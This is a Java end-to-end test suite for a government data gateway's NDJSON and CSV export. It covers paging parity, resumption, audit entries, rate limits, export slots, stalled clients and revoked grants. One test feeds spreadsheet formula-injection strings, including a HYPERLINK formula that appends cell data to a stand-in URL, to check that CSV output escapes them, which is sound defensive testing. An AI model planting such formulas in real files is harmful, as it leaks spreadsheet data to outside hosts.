package th.go.mol.ldx.e2e;

import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasItem;
import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.restassured.path.json.JsonPath;
import io.restassured.response.Response;
import java.io.ByteArrayOutputStream;
import java.io.InputStream;
import java.io.StringReader;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.SocketException;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.awaitility.Awaitility;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import th.go.mol.ldx.devstack.GatewayServer;
import th.go.mol.ldx.e2e.support.Api;
import th.go.mol.ldx.e2e.support.LdxStack;
import th.go.mol.ldx.e2e.support.TestDataset;
import th.go.mol.ldx.e2e.support.Tokens;

/**
 * An export is the caller's view, whole: the same records as its pages (fields, rows, pseudonyms), across the
 * export's internal chunks, in NDJSON and in CSV, resumable after a key; the audit trail records its end with the
 * records it carried, and those count against the agency's day.
 */
@ExtendWith(LdxStack.class)
class ExportTest {

    private static final ObjectMapper JSON = new ObjectMapper();
    /** The exports a gateway streams at once, and one organisation of them, by default (gateway's ExportConfig). */
    private static final int SLOTS = 4;
    private static final int SLOTS_PER_ORGANISATION = 2;
    /** More than two of the export's chunks of 2,000. */
    private static final int RECORDS = 4_100;

    @Test
    void aPartnersExportHoldsWhatItsPagesShowInNdjsonAndCsvAndResumesAfterAKey() throws Exception {
        TestDataset dataset = TestDataset.create();
        for (int first = 0; first < RECORDS; first += 1_000) {
            dataset.load(n -> String.format("X-%05d", n), first, Math.min(RECORDS, first + 1_000) - 1);
        }
        // Bangkok and Chiang Mai (n % 4 of 0 and 2): half the records; no names; national IDs as pseudonyms.
        dataset.grant("agency-rd", Map.of("fields", List.of("nationalId", "amount", "provinceCode", "registeredOn"),
                "rows", Map.of("provinceCode", Map.of("in", List.of("10", "50")))));
        List<JsonNode> pages = pages(dataset);
        assertEquals(RECORDS / 2, pages.size());

        Response ndjson = Api.reading("agency-rd").get(export(dataset));
        ndjson.then().statusCode(200).contentType("application/x-ndjson")
                .header("LDX-Sequence", String.valueOf(RECORDS))
                .header("Content-Disposition", "attachment; filename=\"" + dataset.id() + ".ndjson\"");
        assertEquals(pages, lines(ndjson.asString()));

        Response csv = Api.reading("agency-rd").get(export(dataset) + "?format=csv&bom=true");
        csv.then().statusCode(200).contentType("text/csv");
        byte[] bytes = csv.asByteArray();
        assertArrayEquals(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, Arrays.copyOf(bytes, 3));
        String text = new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8);
        // The header: the fields shown (all the grant's but the name), in the order of the catalog's schema.
        List<String> schemaOrder = new ArrayList<>();
        JSON.readTree(Api.as("agency-rd").get("/v1/datasets/" + dataset.id()).asString()).get("schema")
                .get("properties").fieldNames().forEachRemaining(schemaOrder::add);
        schemaOrder.remove("name");
        assertTrue(text.startsWith(String.join(",", schemaOrder) + "\r\n"), text.substring(0, 60));
        List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).build()
                .parse(new StringReader(text)).getRecords();
        assertEquals(pages.size(), rows.size());
        for (int i = 0; i < rows.size(); i++) {
            JsonNode page = pages.get(i);
            CSVRecord row = rows.get(i);
            for (String column : List.of("id", "nationalId", "provinceCode", "registeredOn")) {
                assertEquals(page.get(column).asText(), row.get(column), "row " + i + ", " + column);
            }
            assertEquals(page.get("amount").asInt(), Integer.parseInt(row.get("amount")));
        }

        String resumeAfter = pages.get(999).get("id").asText();
        Response rest = Api.reading("agency-rd").queryParam("afterKey", resumeAfter).get(export(dataset));
        assertEquals(pages.subList(1_000, pages.size()), lines(rest.asString()));

        Response narrowed = Api.reading("agency-rd").queryParam("fields", "amount")
                .queryParam("filter", "{\"amount\":{\"lt\":10}}").get(export(dataset));
        assertEquals(List.of("{\"id\":\"X-00000\",\"amount\":0}", "{\"id\":\"X-00002\",\"amount\":2}",
                "{\"id\":\"X-00004\",\"amount\":4}", "{\"id\":\"X-00006\",\"amount\":6}",
                "{\"id\":\"X-00008\",\"amount\":8}"), narrowed.asString().lines().toList());
    }

    @Test
    void aCsvFileForExcelShowsTextThatLooksLikeAFormulaAsText() throws Exception {
        TestDataset dataset = TestDataset.create();
        List<String> names = List.of("=HYPERLINK(\"http://x/?\"&A2,\"click\")", "+66 2 123 4567", "-x", "@SUM(A1)",
                "\tTabbed", "\rReturned", "Somchai = 1", "");
        for (int n = 0; n < names.size(); n++) {
            Map<String, Object> record = new HashMap<>(TestDataset.record("F-" + n, n));
            record.put("name", names.get(n));
            dataset.put("F-" + n, record);
        }

        for (boolean forExcel : List.of(true, false)) {
            byte[] bytes = Api.as(TestDataset.OWNER).get(export(dataset) + "?format=csv&bom=" + forExcel).then()
                    .statusCode(200).extract().asByteArray();
            int bom = forExcel ? 3 : 0;
            List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).build()
                    .parse(new StringReader(new String(bytes, bom, bytes.length - bom, StandardCharsets.UTF_8)))
                    .getRecords();
            for (int n = 0; n < names.size(); n++) {
                String name = names.get(n);
                boolean formula = n < 6;
                assertEquals(forExcel && formula ? "'" + name : name, rows.get(n).get("name"), "name of F-" + n);
            }
        }
    }

    @Test
    void theOwnerExportsEveryRecordAsStoredAndTheAuditTrailRecordsTheEndWithItsRecords() throws Exception {
        TestDataset dataset = TestDataset.create();
        dataset.load(n -> "O-" + n, 1, 30);
        Response export = Api.as(TestDataset.OWNER).get(export(dataset));
        export.then().statusCode(200);
        List<JsonNode> lines = lines(export.asString());
        assertEquals(30, lines.size());
        assertEquals(JSON.valueToTree(TestDataset.record("O-1", 1)), lines.get(0));
        String trace = export.header("LDX-Trace-Id");

        Awaitility.await().atMost(Duration.ofSeconds(10)).untilAsserted(() -> {
            JsonPath entries = Api.as("ldx-admin").queryParam("dataset", dataset.id()).queryParam("limit", 100)
                    .get("/v1/audit/entries").then().statusCode(200).extract().jsonPath();
            List<Map<String, Object>> ofExport = entries.<Map<String, Object>>getList("items").stream()
                    .filter(e -> trace.equals(e.get("traceId"))).toList();
            assertEquals(List.of("records.export", "records.export.completed"),
                    ofExport.stream().map(e -> e.get("action")).sorted().toList());
            assertEquals(30, ofExport.stream().filter(e -> "records.export.completed".equals(e.get("action")))
                    .findFirst().orElseThrow().get("records"));
        });
        Api.as("ldx-admin").get("/v1/audit/verify").then().statusCode(200).body("intact", equalTo(true));
    }

    @Test
    void anExportsRecordsCountAgainstTheAgencysDay() {
        String agency = "e2e-export-limits-" + UUID.randomUUID().toString().substring(0, 8);
        LdxStack.stack().parties().newAgency(agency, "trial");
        TestDataset dataset = TestDataset.create();
        dataset.load(n -> "L-" + n, 1, 9);
        String grant = dataset.grant(agency, Map.of("fields", List.of("amount")));
        Api.as("ldx-admin").contentType("application/json").body(Map.of("perSecond", 1, "burst", 30, "recordsPerDay", 8))
                .put("/v1/grants/" + grant + "/limits").then().statusCode(200);

        // Admitted while records of the day remain; the 9 it carried spend them. A read that carries no record
        // does not spend any: it is refused once, and only once, the export's records were charged.
        assertEquals(9, Api.reading(agency).get(export(dataset)).then().statusCode(200).extract().asString()
                .lines().count());
        Awaitility.await().atMost(Duration.ofSeconds(5)).pollInterval(Duration.ofMillis(500)).untilAsserted(() ->
                Api.reading(agency).queryParam("filter", "{\"amount\":{\"lt\":0}}").get(dataset.recordsPath())
                        .then().statusCode(429).body("detail", containsString("records of the day (8)")));
    }

    @Test
    void badExportParametersAre400NamingThemAndHiddenFieldsAreRefused() {
        TestDataset dataset = TestDataset.create();
        dataset.grant("agency-rd", Map.of("fields", List.of("amount")));
        Api.reading("agency-rd").get(export(dataset) + "?format=xlsx").then().statusCode(400)
                .body("type", equalTo("https://ldx.mol.go.th/problems/invalid-parameter"))
                .body("errors.pointer", hasItem("format"));
        Api.reading("agency-rd").get(export(dataset) + "?bom=true").then().statusCode(400)
                .body("errors.pointer", hasItem("bom"));
        Api.reading("agency-rd").get(export(dataset) + "?format=csv&bom=yes").then().statusCode(400)
                .body("errors.pointer", hasItem("bom"));
        Api.reading("agency-rd").queryParam("filter", "{\"name\":{\"eq\":\"Somchai 1\"}}").get(export(dataset))
                .then().statusCode(400).body("type", equalTo("https://ldx.mol.go.th/problems/field-not-granted"))
                .body("errors.pointer", hasItem("filter/name"));
        Api.reading("agency-nso").get(export(dataset)).then().statusCode(403);
    }

    @Test
    void exportsBeyondTheSlotsOrAnOrganisationsShareAreRefusedWithRetryAfterWhilePagesAreServedAndTheSlotsComeBack()
            throws Exception {
        TestDataset dataset = datasetOf16Megabytes().grant("agency-rd", true).grant("agency-nso", true);
        List<Socket> stalled = new ArrayList<>();
        try {
            for (int i = 0; i < SLOTS_PER_ORGANISATION; i++) {
                stalled.add(stalledExport(LdxStack.stack().gateway().baseUrl(), dataset, TestDataset.OWNER));
            }
            // The owner's share is taken; another organisation still gets the slots left.
            Api.as(TestDataset.OWNER).get(export(dataset)).then().statusCode(503)
                    .contentType("application/problem+json").header("Retry-After", "30")
                    .body("type", equalTo("https://ldx.mol.go.th/problems/exports-busy"))
                    .body("detail", containsString("as one organisation may at once (2)"));
            for (int i = SLOTS_PER_ORGANISATION; i < SLOTS; i++) {
                stalled.add(stalledExport(LdxStack.stack().gateway().baseUrl(), dataset, "agency-rd"));
            }
            Api.reading("agency-nso").get(export(dataset)).then().statusCode(503)
                    .contentType("application/problem+json").header("Retry-After", "30")
                    .body("type", equalTo("https://ldx.mol.go.th/problems/exports-busy"))
                    .body("detail", containsString("as many exports as it may at once (4)"));
            Api.as(TestDataset.OWNER).queryParam("limit", 5).get(dataset.recordsPath()).then().statusCode(200)
                    .body("items.size()", equalTo(5));
        } finally {
            for (Socket socket : stalled) {
                socket.close();
            }
        }
        // The clients gone, their exports end and give their slots back: every slot serves again.
        Awaitility.await().atMost(Duration.ofSeconds(20)).untilAsserted(() -> {
            List<Socket> again = new ArrayList<>();
            try {
                for (String organisation : List.of(TestDataset.OWNER, TestDataset.OWNER, "agency-rd", "agency-nso")) {
                    again.add(stalledExport(LdxStack.stack().gateway().baseUrl(), dataset, organisation));
                }
            } finally {
                for (Socket socket : again) {
                    socket.close();
                }
            }
        });
    }

    @Test
    void anExportWhoseClientStopsReadingIsClosedByTheGatewayAndItsSlotServesAgain() throws Exception {
        TestDataset dataset = datasetOf16Megabytes();
        try (GatewayServer gateway = LdxStack.stack().unstartedGateway("gateway-export-stall", env -> {
            env.put("LDX_EXPORT_SLOTS", "1");
            env.put("LDX_EXPORT_STALL_TIMEOUT", "2s");
        })) {
            gateway.start();
            Socket stalled = stalledExport(gateway.baseUrl(), dataset, TestDataset.OWNER);
            try {
                Api.as(TestDataset.OWNER).baseUri(gateway.baseUrl()).get(export(dataset)).then().statusCode(503)
                        .body("type", equalTo("https://ldx.mol.go.th/problems/exports-busy"));
                // The client still holds its connection and reads nothing: only the gateway can give the slot back.
                Awaitility.await().atMost(Duration.ofSeconds(30)).pollInterval(Duration.ofMillis(500)).until(() ->
                        Api.as(TestDataset.OWNER).baseUri(gateway.baseUrl()).queryParam("afterKey", "S-1998")
                                .get(export(dataset)).statusCode() == 200);
                // What the stalled connection still delivers ends short of the export, and not as a whole answer
                // would: the gateway dropped the connection, it did not end the chunked answer.
                ByteArrayOutputStream received = new ByteArrayOutputStream();
                stalled.setSoTimeout(30_000);
                try (InputStream in = stalled.getInputStream()) {
                    in.transferTo(received);
                } catch (SocketException reset) {
                    // A connection closed with unread data may end with a reset rather than an end of stream.
                }
                String tail = received.toString(StandardCharsets.ISO_8859_1);
                assertTrue(received.size() < 16_000_000, "the stalled export was written whole: " + received.size());
                assertFalse(tail.endsWith("0\r\n\r\n"), "the cut-off answer was ended as if whole");
                // A connection cut off is not a fault of LDX: logged as such, not as an incident. The gateway logs it
                // once its write fails, which may come after the client saw the connection end.
                Awaitility.await("the cut-off logged").atMost(Duration.ofSeconds(15)).until(() ->
                        Files.readString(gateway.log()).contains("was cut off: its connection closed"));
                assertFalse(Files.readString(gateway.log()).contains("incident"),
                        "a cut-off export was logged as an incident");
            } finally {
                stalled.close();
            }
        }
    }

    /**
     * A grant revoked while its export streams ends the export too, as it refuses the next page: the export checks
     * its grant again every second and stops short, its answer not ended as a whole one, and a resumption is refused.
     */
    @Test
    void anExportWhoseGrantIsRevokedStopsShortAndItsResumptionIsRefused() throws Exception {
        TestDataset dataset = datasetOf16Megabytes().grant("agency-rd", true);
        GatewayServer gateway = LdxStack.stack().gateway();
        Socket streaming = stalledExport(gateway.baseUrl(), dataset, "agency-rd");
        try {
            Api.as("ldx-admin").contentType("application/json").body(Map.of("reason", "end of the test"))
                    .post("/v1/grants/" + dataset.grantOf("agency-rd") + "/revoke").then().statusCode(200);
            Api.reading("agency-rd").get(dataset.recordsPath()).then().statusCode(403);
            // The export waits on its client, which reads nothing yet: its next check of the grant falls due meanwhile.
            Thread.sleep(1_500);
            ByteArrayOutputStream received = new ByteArrayOutputStream();
            streaming.setSoTimeout(30_000);
            try (InputStream in = streaming.getInputStream()) {
                in.transferTo(received);
            } catch (SocketException reset) {
                // A connection closed with unread data may end with a reset rather than an end of stream.
            }
            assertTrue(received.size() < 16_000_000, "the export went on after its grant ended: " + received.size());
            assertFalse(received.toString(StandardCharsets.ISO_8859_1).endsWith("0\r\n\r\n"),
                    "the stopped export was ended as if whole");
            assertTrue(Files.readString(gateway.log()).contains("the export of " + dataset.id() + " stopped after"),
                    "the stop was not logged");
            // The audit trail records the export cut off with the records it carried, which count for the agency.
            Awaitility.await().atMost(Duration.ofSeconds(10)).untilAsserted(() -> {
                List<Map<String, Object>> cut = Api.as("ldx-admin").queryParam("dataset", dataset.id())
                        .queryParam("limit", 100).get("/v1/audit/entries").then().statusCode(200).extract().jsonPath()
                        .<Map<String, Object>>getList("items").stream()
                        .filter(e -> "records.export.cut-off".equals(e.get("action"))).toList();
                assertEquals(1, cut.size(), "one export cut off: " + cut);
                int records = ((Number) cut.get(0).get("records")).intValue();
                assertTrue(records > 0 && records < 2_000, "the records it carried: " + records);
            });
            Api.reading("agency-rd").queryParam("afterKey", "S-0100").get(export(dataset)).then().statusCode(403)
                    .body("type", equalTo("https://ldx.mol.go.th/problems/not-granted"));
        } finally {
            streaming.close();
        }
    }

    /** 16 MB of records: four times what a client that stops reading, and the sockets between, take in. */
    private static TestDataset datasetOf16Megabytes() {
        TestDataset dataset = TestDataset.create();
        String longName = "ก".repeat(2_700);
        for (int batch = 0; batch < 4; batch++) {
            List<Map<String, Object>> changes = new ArrayList<>();
            for (int n = batch * 500; n < (batch + 1) * 500; n++) {
                Map<String, Object> record = new HashMap<>(TestDataset.record(String.format("S-%04d", n), n));
                record.put("name", longName);
                changes.add(Map.of("operation", "upsert", "data", record));
            }
            dataset.batch(changes).then().statusCode(200);
        }
        return dataset;
    }

    /**
     * An export over a raw connection with a small receive buffer, which reads the status line and stops reading,
     * so that the export stays open, its request thread waiting for the client (a send buffer of 4 MiB at most);
     * asserts it was admitted (200).
     */
    private static Socket stalledExport(String baseUrl, TestDataset dataset, String organisation) throws Exception {
        URI gateway = URI.create(baseUrl);
        Socket socket = new Socket();
        socket.setReceiveBufferSize(4096);
        socket.connect(new InetSocketAddress(gateway.getHost(), gateway.getPort()), 10_000);
        socket.setSoTimeout(10_000);
        socket.getOutputStream().write(("GET " + export(dataset) + " HTTP/1.1\r\nHost: " + gateway.getAuthority()
                + "\r\nAuthorization: Bearer " + Tokens.of(organisation) + "\r\nLDX-Purpose: "
                + TestDataset.PURPOSE + "\r\n\r\n").getBytes(StandardCharsets.ISO_8859_1));
        InputStream in = socket.getInputStream();
        byte[] status = in.readNBytes("HTTP/1.1 200".length());
        String line = new String(status, StandardCharsets.ISO_8859_1);
        if (!line.equals("HTTP/1.1 200")) {
            socket.close();
            throw new AssertionError("export not admitted: " + line);
        }
        return socket;
    }

    private static String export(TestDataset dataset) {
        return "/v1/datasets/" + dataset.id() + "/export";
    }

    /** Every record of the agency's pages, as the pages show them. */
    private static List<JsonNode> pages(TestDataset dataset) throws Exception {
        List<JsonNode> records = new ArrayList<>();
        String after = null;
        do {
            var request = Api.reading("agency-rd").queryParam("limit", 1000);
            if (after != null) {
                request.queryParam("after", after);
            }
            JsonNode page = JSON.readTree(request.get(dataset.recordsPath()).then().statusCode(200).extract().asString());
            page.get("items").forEach(item -> records.add(item.get("data")));
            after = page.get("next").isNull() ? null : page.get("next").asText();
        } while (after != null);
        return records;
    }

    private static List<JsonNode> lines(String ndjson) throws Exception {
        assertTrue(ndjson.isEmpty() || ndjson.endsWith("\n"), "every line ends with a line break");
        List<JsonNode> records = new ArrayList<>();
        for (String line : ndjson.lines().toList()) {
            records.add((ObjectNode) JSON.readTree(line));
        }
        return records;
    }
}
